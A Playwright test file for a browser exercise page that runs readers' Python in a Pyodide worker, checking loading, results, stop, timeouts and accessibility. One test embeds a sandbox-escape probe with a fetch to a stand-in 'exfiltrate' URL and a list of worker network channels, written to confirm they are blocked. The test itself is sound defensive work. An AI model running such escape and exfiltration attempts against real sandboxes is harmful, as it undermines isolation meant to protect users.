"""An exercise page in headless Chromium, the site served under the project subpath: Pyodide is fetched on the first
"Run tests" only, from the site itself; results, errors, Stop and the time limit; the reader's code cannot reach the
page or the network. (The runner itself: tests/test_exercises.py.)"""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import expect

from conftest import ROOT
from test_exercises import EXERCISES

EXERCISE = next(q for q in EXERCISES if q.id == "code-rrf")
# counts a repeated id once per occurrence: fails exactly one test, test_duplicate_in_one_list_counts_once
WRONG = (ROOT / "tests/wrong_solutions/code-rrf/duplicates-vote-twice.py").read_text(encoding="utf-8")
TOTAL = len(re.findall(r"^(?:async )?def test_", (ROOT / "docs" / EXERCISE.tests_uri).read_text(encoding="utf-8"), re.M))
PYODIDE = "/assets/vendor/pyodide/"
STRINGS = {
    "zh": {"passed": f"全部 {TOTAL} 个测试通过。", "mastered": "已把本题标记为“我会了”。", "failed": f"1 / {TOTAL} 个测试未通过。",
           "error": "代码没能运行，测试没有执行：", "stopped": "已停止运行。", "timeout": "运行超过 10 秒，已停止", "fail": "未通过"},
    "en": {"passed": f"All {TOTAL} tests passed.", "mastered": 'Marked this question "Got it".', "failed": f"1 of {TOTAL} tests failed.",
           "error": "Your code could not run, so no test ran:", "stopped": "Stopped.", "timeout": "Stopped after 10 seconds",
           "fail": "failed"},
}
RESULT_TIMEOUT = 120_000  # ms: the first run loads Pyodide, slow on a busy machine


def open_exercise(visit, site_questions, locale):
    entry = next(e for e in site_questions[locale] if e["id"] == EXERCISE.id)
    page = visit.goto(entry["url"])
    expect(page.locator(".qbank-exercise__editor")).to_be_visible()
    return page


def run(page, code: str):
    page.locator(".qbank-exercise__editor").fill(code)
    page.locator("[data-exercise-run]").click()


def wait_for_result(page):
    expect(page.locator("[data-exercise-run]")).to_be_enabled(timeout=RESULT_TIMEOUT)
    return page.locator(".qbank-exercise__status")


def pyodide_requests(visit) -> list[str]:
    return [url for url in visit.requests if PYODIDE in url or "exercise-worker.js" in url]


@pytest.mark.parametrize("locale", ["zh", "en"])
def test_exercise_loads_python_on_the_first_run_only_and_a_correct_solution_passes(visit, site_questions, locale):
    page = open_exercise(visit, site_questions, locale)
    text = STRINGS[locale]
    assert pyodide_requests(visit) == []
    expect(page.locator(".qbank-exercise__size")).to_contain_text(re.compile(r"\d+\.\d MB"))
    expect(page.locator(".qbank-exercise .starter.highlight")).to_be_hidden()  # the editor holds it now
    expect(page.locator(".qbank-exercise__editor")).to_have_value(EXERCISE.pages[locale].starter)
    page.locator(".qbank-exercise__editor").focus()  # nothing is fetched until Run is clicked
    page.wait_for_timeout(500)
    assert pyodide_requests(visit) == []
    run(page, EXERCISE.pages[locale].solution)
    expect(wait_for_result(page)).to_have_text(text["passed"] + ("" if locale == "zh" else " ") + text["mastered"])
    results = page.locator(".qbank-exercise__results li")
    expect(results).to_have_count(TOTAL)
    expect(page.locator(".qbank-exercise__result--pass")).to_have_count(TOTAL)
    # the "Got it" mark is set through the study tools' progress, and its button shows it
    assert page.evaluate("() => JSON.parse(localStorage.getItem('qbank.progress.v1')).marks['code-rrf'].state") == "mastered"
    expect(page.locator('.qbank-study button[data-mark="mastered"]')).to_have_attribute("aria-pressed", "true")
    loaded = pyodide_requests(visit)
    assert any(url.endswith(PYODIDE + "pyodide.asm.wasm") for url in loaded)
    assert all(url.startswith(visit.server) for url in loaded), loaded  # from the site, under its subpath
    assert visit.foreign_requests() == [] and visit.errors == []
    # the reader's code is kept: a reload brings it back; Reset restores the starter code
    page.reload(wait_until="networkidle")
    expect(page.locator(".qbank-exercise__editor")).to_have_value(EXERCISE.pages[locale].solution)
    page.locator("[data-exercise-reset]").click()
    expect(page.locator(".qbank-exercise__editor")).to_have_value(EXERCISE.pages[locale].starter)


@pytest.mark.parametrize("locale", ["zh", "en"])
def test_exercise_names_the_failing_test_and_shows_a_syntax_error_as_an_error(visit, site_questions, locale):
    page = open_exercise(visit, site_questions, locale)
    text = STRINGS[locale]
    run(page, WRONG)
    expect(wait_for_result(page)).to_have_text(text["failed"])
    failed = page.locator(".qbank-exercise__result--fail")
    expect(failed).to_have_count(1)
    expect(failed).to_contain_text(text["fail"] + " test_duplicate_in_one_list_counts_once")
    expect(failed.locator(".qbank-exercise__message")).to_contain_text("a repeated id is one vote at its first position")
    run(page, "def rrf(rankings, k=60)\n    return []\n")
    expect(wait_for_result(page)).to_have_text(text["error"])
    error = page.locator(".qbank-exercise__result--error")
    expect(error).to_contain_text("SyntaxError")
    expect(error).to_contain_text('File "solution.py", line 1')
    # the page and its runner keep working
    run(page, EXERCISE.pages[locale].solution)
    expect(wait_for_result(page)).to_contain_text(text["passed"])
    assert visit.errors == []


def test_an_endless_loop_can_be_stopped_times_out_and_the_page_stays_responsive(visit, site_questions):
    page = open_exercise(visit, site_questions, "zh")
    text = STRINGS["zh"]
    loop = "def rrf(rankings, k=60):\n    while True:\n        pass\n"
    run(page, loop)
    expect(page.locator(".qbank-exercise__status")).to_have_text("正在运行测试……", timeout=RESULT_TIMEOUT)
    stop = page.locator("[data-exercise-stop]")
    expect(stop).to_be_enabled()
    # while Python spins in the worker, the page's own handlers run: typing is saved by the editor's input handler
    editor = page.locator(".qbank-exercise__editor")
    editor.press("End")
    editor.type("# typed")
    expect(editor).to_have_value(re.compile(r"# typed$"))
    assert page.evaluate("() => localStorage.getItem('qbank.exercise.v1.code-rrf')").endswith("# typed")
    stop.click()
    expect(page.locator(".qbank-exercise__status")).to_have_text(text["stopped"])
    expect(page.locator("[data-exercise-run]")).to_be_enabled()
    expect(stop).to_be_disabled()
    # the same loop again, left alone: the time limit stops it
    run(page, loop)
    expect(page.locator(".qbank-exercise__status")).to_contain_text(text["timeout"], timeout=RESULT_TIMEOUT)
    # and a new worker runs the next attempt
    run(page, EXERCISE.pages["zh"].solution)
    expect(wait_for_result(page)).to_contain_text(text["passed"])
    assert visit.errors == []


ESCAPE = """
import js
# Every way out of the worker the reader's code might try: none is left once Python has loaded.
left = [name for name in ("fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts", "Worker",
                          "SharedWorker", "BroadcastChannel", "indexedDB", "caches") if getattr(js, name, None) is not None]
attempts = []
for attempt in (lambda: js.fetch("https://example.org/exfiltrate"), lambda: js.fetch("sandbox-probe"),
                lambda: js.XMLHttpRequest.new(), lambda: js.document.title):
    try:
        attempt()
        attempts.append("reached")
    except Exception as error:
        attempts.append(type(error).__name__)


def rrf(rankings, k=60):
    raise AssertionError(f"left={left} attempts={attempts}")
"""


def test_code_in_the_worker_cannot_reach_the_page_or_the_network(visit, site_questions):
    page = open_exercise(visit, site_questions, "en")
    title = page.title()
    before = len(visit.requests)
    run(page, ESCAPE)
    wait_for_result(page)
    message = page.locator(".qbank-exercise__message").first
    expect(message).to_have_text("left=[] attempts=['TypeError', 'TypeError', 'AttributeError', 'AttributeError']")
    assert page.title() == title
    after = visit.requests[before:]
    assert not any("exfiltrate" in url or "sandbox-probe" in url for url in after), after
    assert visit.foreign_requests() == []


def test_the_editor_fits_a_phone_and_works_from_the_keyboard(phone, site_questions):
    page = open_exercise(phone, site_questions, "en")
    editor = page.locator(".qbank-exercise__editor")
    box = editor.bounding_box()
    assert box["x"] >= 0 and box["x"] + box["width"] <= 390
    assert page.evaluate("() => document.scrollingElement.scrollWidth <= document.scrollingElement.clientWidth")
    for button in page.locator(".qbank-exercise__buttons .md-button").all():
        right = button.bounding_box()
        assert right["x"] + right["width"] <= 390
    expect(page.get_by_label("Your code")).to_be_visible()  # the editor has its label
    editor.fill("x = 1\ny = 2")
    editor.evaluate("(e) => e.setSelectionRange(0, e.value.length)")
    editor.press("Tab")  # indents the selected lines
    expect(editor).to_have_value("    x = 1\n    y = 2")
    editor.press("Shift+Tab")
    expect(editor).to_have_value("x = 1\ny = 2")
    editor.evaluate("(e) => e.setSelectionRange(0, 0)")
    editor.press("Tab")
    expect(editor).to_have_value("    x = 1\ny = 2")
    editor.press("Escape")  # then Tab leaves the editor: no keyboard trap
    editor.press("Tab")
    expect(page.locator("[data-exercise-run]")).to_be_focused()
    expect(editor).to_have_value("    x = 1\ny = 2")
